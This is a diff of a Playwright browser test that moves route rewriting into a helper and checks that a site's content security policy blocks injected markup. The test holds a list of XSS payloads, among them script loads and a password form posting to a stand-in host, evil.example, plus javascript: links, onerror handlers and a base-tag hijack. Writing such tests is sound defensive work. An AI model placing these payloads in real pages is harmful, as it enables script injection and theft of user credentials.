@@ -1,5 +1,6 @@
 import { expect } from "playwright/test";
-import { origin, watch } from "./portal.ts";
+import { HOME, origin, watch } from "./portal.ts";
+import { pathOf, requested, rewrite } from "./shell/shell.ts";
 import { test } from "./test.ts";
 
 /** The headers of tests/edge/headers.test.ts, at work in a browser. */
@@ -12,31 +13,25 @@ test("markup that got into a page runs nothing, loads nothing of others and lead
 		if (message.type() === "error") refused.push(message.text());
 	});
 	await page.route("https://evil.example/**", (route) => route.fulfill({ body: "window.pwned = 1" }));
-	await page.route(`${origin("ie")}/en-IE/about`, async (route) => {
-		const answer = await route.fetch();
-		const injected = [
-			"<script>window.pwned = 1</script>",
-			'<script src="https://evil.example/x.js"></script>',
-			`<script src="${page404}"></script>`,
-			'<img src="x:" onerror="window.pwned = 1">',
-			'<iframe srcdoc="<script>parent.pwned = 1</script>"></iframe>',
-			'<a id="js" href="javascript:window.pwned = 1">x</a>',
-			'<form id="out" action="https://evil.example/"><input name="password" value="x"></form>',
-			'<base href="https://evil.example/">',
-			'<object data="https://evil.example/x"></object>',
-			'<style>body { display: none }</style><p id="shown" style="display: none">x</p>',
-		].join("");
-		await route.fulfill({
-			response: answer,
-			body: (await answer.text()).replace('<main id="content"', `${injected}$&`),
-		});
-	});
-	await page.goto(`${origin("ie")}/en-IE/about`);
+	const injected = [
+		"<script>window.pwned = 1</script>",
+		'<script src="https://evil.example/x.js"></script>',
+		`<script src="${page404}"></script>`,
+		'<img src="x:" onerror="window.pwned = 1">',
+		'<iframe srcdoc="<script>parent.pwned = 1</script>"></iframe>',
+		'<a id="js" href="javascript:window.pwned = 1">x</a>',
+		'<form id="out" action="https://evil.example/"><input name="password" value="x"></form>',
+		'<base href="https://evil.example/">',
+		'<object data="https://evil.example/x"></object>',
+		'<style>body { display: none }</style><p id="shown" style="display: none">x</p>',
+	].join("");
+	await rewrite(page, `${HOME}/about`, (html) => html.replace('<main id="content"', `${injected}$&`));
+	await page.goto(`${HOME}/about`);
 	await expect(page.locator("#shown")).toBeVisible();
 	await page.locator("#js").click();
 	await page.locator("#out").evaluate((form: HTMLFormElement) => form.submit());
 	expect(await page.evaluate(() => document.baseURI)).toBe(page.url());
-	expect(page.url()).toBe(`${origin("ie")}/en-IE/about`);
+	expect(page.url()).toBe(`${HOME}/about`);
 	expect(await page.evaluate(() => "pwned" in window)).toBe(false);
 	for (const directive of ["script-src", "script-src-attr", "form-action", "base-uri", "object-src", "style-src"]) {
 		await expect.poll(() => refused.join("\n"), directive).toContain(directive);
@@ -46,7 +41,7 @@ test("markup that got into a page runs nothing, loads nothing of others and lead
 });
 
 test("no text becomes markup or script but by a policy with a name", async ({ page }) => {
-	await page.goto(`${origin("ie")}/en-IE`);
+	await page.goto(HOME);
 	const results = await page.evaluate(() => {
 		const attempt = (act: () => unknown) => {
 			try {
@@ -72,8 +67,7 @@ test("no text becomes markup or script but by a policy with a name", async ({ pa
 });
 
 test("what a page names in its header is used, fetched once and reported by no policy", async ({ page }) => {
-	const asked: string[] = [];
-	page.on("request", (request) => asked.push(new URL(request.url()).pathname));
+	const asked = requested(page, undefined, pathOf);
 	const problems = watch(page);
 	for (const [country, path] of [
 		["ie", "/en-IE"],
